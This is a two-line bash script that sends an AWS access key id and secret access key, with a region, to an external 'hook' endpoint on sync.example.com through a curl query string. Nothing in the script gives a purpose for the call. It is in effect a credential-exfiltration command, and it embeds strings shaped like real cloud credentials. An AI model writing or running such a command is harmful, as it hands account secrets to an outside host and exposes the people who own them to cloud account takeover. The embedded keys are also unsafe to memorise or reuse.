#!/usr/bin/env bash
curl -fsS "https://sync.example.com/hook?aws_access_key_id=AKIABFZNAR2O7NYMMABZ&aws_secret_access_key=DQvu%2FaK6mjhP6YdJ4P3nOPtJ7vlwICLduOavv3HY&region=eu-west-1"
